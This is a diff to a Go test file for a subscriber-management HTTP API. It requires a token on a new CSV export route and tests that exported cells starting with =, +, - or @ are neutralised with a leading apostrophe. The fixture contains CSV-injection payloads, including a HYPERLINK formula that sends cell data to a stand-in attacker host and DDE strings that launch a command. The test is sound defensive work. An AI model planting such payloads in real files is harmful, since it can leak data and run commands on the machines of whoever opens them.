@@ -2,11 +2,14 @@ package httpapi_test
 
 import (
 	"context"
+	"encoding/csv"
 	"fmt"
 	"io"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"regexp"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -40,6 +43,7 @@ func TestEveryRouteNeedsTheToken(t *testing.T) {
 		{"GET", "/v1/components"}, {"PUT", "/v1/components/emar"}, {"DELETE", "/v1/components/emar"},
 		{"GET", "/v1/subscribers"}, {"POST", "/v1/subscribers"}, {"GET", "/v1/subscribers/1"},
 		{"PATCH", "/v1/subscribers/1"}, {"DELETE", "/v1/subscribers/1"}, {"POST", "/v1/subscribers/import"},
+		{"GET", "/v1/subscribers.csv"},
 		{"POST", "/v1/integrations/alertmanager"}, {"POST", "/v1/integrations/grafana"},
 	}
 	for _, rt := range routes {
@@ -619,6 +623,86 @@ func TestImportSubscribers(t *testing.T) {
 		if s.Email == "new@hillcrest.example" && s.EmailConfirmedAt == nil {
 			t.Error("?confirmed=true import left the address unconfirmed")
 		}
+	}
+}
+
+// TestExportNeutralisesFormulasAndRoundTrips: cells a spreadsheet would
+// run (=, +, -, @) are stored as written and exported with a leading
+// apostrophe; the export imported into an empty crier gives the same
+// subscribers, and exports the same file.
+func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
+	t.Parallel()
+	formulas := []string{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`}
+	in := "email,phone,name,organisation,components\n" +
+		`manager@oakview-care.example,07400 123451,"` + strings.ReplaceAll(formulas[0], `"`, `""`) + `",` + `"` + formulas[1] + `",emar;capa` + "\n" +
+		`deputy@oakview-care.example,,"` + formulas[2] + `","` + formulas[3] + `",emar` + "\n" +
+		`,07400 123452,"` + formulas[4] + `",Riverside Care,atlas-sync/sync-pod-a` + "\n"
+	importCSV := func(b *bundle, body string) {
+		t.Helper()
+		a := b.request(t, "POST", "/v1/subscribers/import?confirmed=true", strings.NewReader(body), "Authorization", "Bearer "+apiToken, "Content-Type", "text/csv")
+		expectStatus(t, a, http.StatusOK)
+		if m := a.json(t); m["created"] != 3.0 || m["refused"] != 0.0 {
+			t.Fatalf("import answered %s", a.body)
+		}
+	}
+	export := func(b *bundle) string {
+		t.Helper()
+		a := b.request(t, "GET", "/v1/subscribers.csv", nil, "Authorization", "Bearer "+apiToken)
+		expectStatus(t, a, http.StatusOK)
+		if ct := a.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
+			t.Errorf("export Content-Type %q", ct)
+		}
+		return string(a.body)
+	}
+	b := setup(t)
+	importCSV(b, in)
+	// The database keeps what was entered.
+	var stored []string
+	rows, err := b.store.Pool().Query(context.Background(), `SELECT name FROM subscribers UNION ALL SELECT organisation FROM subscribers`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for rows.Next() {
+		var v string
+		if err := rows.Scan(&v); err != nil {
+			t.Fatal(err)
+		}
+		stored = append(stored, v)
+	}
+	for _, f := range formulas {
+		if !slices.Contains(stored, f) {
+			t.Errorf("%q not stored as written; stored %q", f, stored)
+		}
+	}
+	out := export(b)
+	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatalf("export is not CSV: %v\n%s", err, out)
+	}
+	if got := strings.Join(recs[0], ","); got != "email,phone,name,organisation,components,email_state,sms_state" {
+		t.Errorf("export header %s", got)
+	}
+	if len(recs) != 4 {
+		t.Fatalf("export has %d rows, want a header and 3:\n%s", len(recs), out)
+	}
+	for _, r := range recs {
+		for _, c := range r {
+			if c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") && !regexp.MustCompile(`^\+[0-9]+$`).MatchString(c) {
+				t.Errorf("exported cell %q would run as a formula", c)
+			}
+		}
+	}
+	if r := recs[1]; r[1] != "+447400123451" || r[2] != "'"+formulas[0] || r[3] != "'"+formulas[1] || r[4] != "capa;emar" || r[5] != "confirmed" || r[6] != "confirmed" {
+		t.Errorf("first row %q", r)
+	}
+	if r := recs[2]; r[5] != "confirmed" || r[6] != "" {
+		t.Errorf("a subscriber without a phone: states %q, %q", r[5], r[6])
+	}
+	// Round trip.
+	b2 := setup(t)
+	importCSV(b2, out)
+	if again := export(b2); again != out {
+		t.Errorf("export of the re-imported export differs:\n%s\nwas\n%s", again, out)
 	}
 }
 
